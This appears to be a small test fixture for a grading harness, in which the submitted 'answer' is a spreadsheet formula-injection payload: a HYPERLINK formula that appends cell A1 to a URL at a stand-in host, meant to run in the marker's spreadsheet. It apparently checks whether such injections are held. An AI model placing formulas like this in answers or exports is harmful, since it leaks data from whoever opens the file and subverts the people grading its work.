# mypy: ignore-errors
"""Hands in a formula, which would run in the spreadsheet of whoever opens the marks.

expect: answered
held-by: spreadsheet
"""
# %%
answer = "=HYPERLINK(\"https://example.org/?\"&A1,\"x\")"
